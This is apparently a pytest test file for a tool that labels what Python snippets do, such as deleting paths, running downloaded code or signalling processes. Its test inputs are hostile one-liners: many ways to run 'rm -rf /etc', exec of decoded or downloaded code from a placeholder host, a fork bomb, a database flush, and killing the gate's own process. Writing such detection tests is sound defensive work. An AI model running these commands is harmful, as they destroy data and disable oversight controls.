"""Programs and code started by Python."""

from __future__ import annotations

import pytest
from support.code import deeds, python


@pytest.mark.parametrize(
    "code",
    [
        "import os; os.system('rm -rf /etc')",
        "import os; os.popen('rm -rf /etc').read()",
        "import subprocess; subprocess.run(['rm', '-rf', '/etc'])",
        "import subprocess; subprocess.run('rm -rf /etc', shell=True)",
        "import subprocess; cmd = ['rm', '-rf']; cmd.append('/etc'); subprocess.run(cmd)",
        "import subprocess; cmd = ['rm', '-rf'] + ['/etc']; subprocess.check_call(cmd)",
        "import subprocess, shlex; subprocess.Popen(shlex.split('rm -rf /etc'))",
        "import subprocess; subprocess.getoutput('rm -rf /etc')",
        "import subprocess; subprocess.run(['sh', '-c', 'rm -rf /etc'])",
        "import subprocess; subprocess.run(['bash'], input='rm -rf /etc', text=True)",
        "import subprocess; subprocess.run(['rm', '-rf', 'etc'], cwd='/')",
        "import subprocess, sys; subprocess.run([sys.executable, '-c', 'import shutil; shutil.rmtree(\"/etc\")'])",
        "import os; os.execvp('rm', ['rm', '-rf', '/etc'])",
        "import os; os.execlp('rm', 'rm', '-rf', '/etc')",
        "import pty; pty.spawn(['rm', '-rf', '/etc'])",
        "import asyncio; asyncio.run(asyncio.create_subprocess_shell('rm -rf /etc'))",
        "import ctypes; ctypes.CDLL('libc.so.6').system(b'rm -rf /etc')",
        "import os; os.environ['D'] = '/etc'; os.system('rm -rf $D')",
    ],
)
def test_what_is_started_is_read(code: str) -> None:
    """A command inside code is the command."""
    assert "DeletePath /etc" in deeds(python(code))


@pytest.mark.parametrize(
    ("code", "expected"),
    [
        ("exec(__import__('base64').b64decode('SGVsbG8='))", ["RunCode decoded"]),
        ("import zlib; exec(zlib.decompress(x))", ["RunCode decoded"]),
        ("import codecs; exec(codecs.decode('cevag(1)', 'rot13'))", ["RunCode decoded"]),
        ("exec(x)", ["RunCode generated"]),
        ("import requests; exec(requests.get('https://x.y').text)", ["Request x.y", "RunCode download"]),
        ("import urllib.request as r; exec(r.urlopen('https://x.y').read())", ["Request x.y", "RunCode download"]),
        ("import subprocess; exec(subprocess.getoutput('curl https://x.y'))", ["Request x.y", "RunCode download"]),
        (
            "import pickle, requests; pickle.loads(requests.get('https://x.y').content)",
            ["Request x.y", "RunCode download"],
        ),
        ("import os; os.kill(-1, 9)", ["SignalProcess all"]),
        ("import os; os.kill(4711, 0)", []),
        (
            "import os, subprocess as s\nfor p in s.check_output(['pgrep', 'x']).split(): os.kill(int(p), 9)",
            ["SignalProcess named"],
        ),
        (
            "import os\n[os.kill(int(p), 9) for p in os.popen('ps -C x -o pid=').read().split()]",
            ["SignalProcess named"],
        ),
        ("import os, subprocess as s\nos.kill(int(s.getoutput('lsof -ti:3000')), 15)", ["SignalProcess one"]),
        (
            "import os, subprocess as s\nos.kill(int(s.getoutput('pgrep enactd')), 9)",
            ["TamperGate stops the gate's process: `<output of pgrep enactd>`", "SignalProcess named"],
        ),
        ("import os\nwhile True: os.fork()", ["ForkBomb os.fork in a loop"]),
        (
            "from django.core.management import call_command; call_command('flush', interactive=False)",
            ["ResetDatabase flush"],
        ),
        ("exec('x = 1')", []),
    ],
)
def test_code_from_elsewhere(code: str, expected: list[str]) -> None:
    """Decoded, downloaded and generated text is named for what it is."""
    assert expected == deeds(python(code))
